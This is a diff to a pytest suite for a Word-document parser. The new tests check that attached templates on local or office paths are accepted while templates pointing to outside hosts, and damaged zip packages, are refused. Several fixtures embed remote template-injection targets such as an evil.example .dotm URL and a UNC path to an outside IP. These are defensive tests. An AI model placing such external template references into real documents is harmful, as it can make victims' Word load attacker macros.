@@ -81,14 +81,47 @@ def test_what_would_be_fetched_from_outside_is_refused(kind, target):
         laid_out(raw)
 
 
-def test_a_template_named_by_the_settings_is_not_fetched_either():
+def begun_from(template: str) -> bytes:
+    """Return a file whose settings name the template that it was begun from, as Word notes it."""
     relations = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
         'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+        f'Target="{template}" TargetMode="External"/></Relationships>'
     )
+    return with_part("word/_rels/settings.xml.rels", relations.encode())
+
+
+def test_a_template_named_by_the_settings_is_not_fetched_either():
     with pytest.raises(DocumentRefused, match="fetched from outside"):
-        laid_out(with_part("word/_rels/settings.xml.rels", relations.encode()))
+        laid_out(begun_from("https://evil.example/t.dotm"))
+
+
+@pytest.mark.parametrize(
+    "place",
+    [r"file:///C:\Users\tran\Templates\Pleading%20Paper.dotm", r"file:///\\dcss01\templates\Letter.dotx", "Normal.dotm",
+     "file:///Users/tran/Library/Pleading.dotm", "Macintosh%20HD:Users:tran:Pleading.dotm"],
+)  # fmt: skip
+def test_the_office_template_that_a_paper_was_begun_from_does_not_matter(place):
+    assert page_texts(laid_out(begun_from(place)))[0].startswith("Text.")
+
+
+@pytest.mark.parametrize(
+    "place",
+    ["http://evil.example/t.dotm", r"file:///\\evil.example\t.dotm", "file://evil.example/t.dotm", r"\\198.51.100.7\t.dotm",
+     "//evil.example/t.dotm"],
+)  # fmt: skip
+def test_a_template_on_a_computer_outside_of_the_office_is_refused(place):
+    with pytest.raises(DocumentRefused, match=r"fetched from outside \(a template\)"):
+        open_package(begun_from(place))
+
+
+def test_a_part_whose_packing_is_broken_is_refused():
+    with zipfile.ZipFile(io.BytesIO(PLAIN)) as archive:
+        entry = archive.getinfo(MAIN)
+    start = entry.header_offset + 30 + len(MAIN)
+    broken = PLAIN[:start] + b"\xff" * 8 + PLAIN[start + 8 :]
+    with pytest.raises(DocumentRefused, match="damaged"):
+        open_package(broken)
 
 
 def test_a_bomb_is_refused_before_it_is_unpacked():
